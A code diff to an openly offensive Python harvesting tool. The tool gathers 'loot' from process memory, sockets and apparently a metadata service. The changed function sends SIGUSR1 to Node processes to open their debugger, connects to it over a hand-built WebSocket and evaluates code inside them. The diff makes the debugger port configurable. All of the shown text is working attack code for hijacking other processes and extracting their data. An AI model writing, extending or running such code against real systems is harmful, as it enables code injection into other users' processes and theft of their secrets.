@@ -143,7 +143,7 @@ def take_memory(loot, number):
     loot.add("memory", str(number), b"\n".join(sorted(found)))
 
 
-def take_inspector(loot, number):
+def take_inspector(loot, number, port):
     """Node opens its debugger on SIGUSR1; whoever connects can run code in it."""
     try:
         if os.path.basename(os.readlink(f"/proc/{number}/exe")) not in ("node", "bulkhead"):
@@ -155,20 +155,20 @@ def take_inspector(loot, number):
     for _ in range(30):
         time.sleep(0.05)
         try:
-            page = http(("127.0.0.1", 9229), "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
+            page = http(("127.0.0.1", port), "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
         except OSError:
             continue
-        path = re.search(rb"ws://127\.0\.0\.1(?::9229)?(/[0-9a-f-]+)", page)
+        path = re.search(rb"ws://127\.0\.0\.1(?::\d+)?(/[0-9a-f-]+)", page)
         if path:
-            loot.add("inspector", str(number), evaluate(path.group(1).decode()))
+            loot.add("inspector", str(number), evaluate(port, path.group(1).decode()))
             return
 
 
-def evaluate(path):
-    with socket.create_connection(("127.0.0.1", 9229), 2) as connection:
+def evaluate(port, path):
+    with socket.create_connection(("127.0.0.1", port), 2) as connection:
         key = base64.b64encode(os.urandom(16)).decode()
         connection.sendall(
-            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
             f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
         )
         connection.recv(4096)
@@ -302,7 +302,7 @@ def take(found):
         take_memory(loot, number)
     signal.signal(signal.SIGUSR1, signal.SIG_IGN)  # what is sent to others may come back
     for number in others:
-        take_inspector(loot, number)
+        take_inspector(loot, number, found["debugger"])
     take_sockets(loot, found)
     take_metadata(loot, found["metadata"])
     return loot
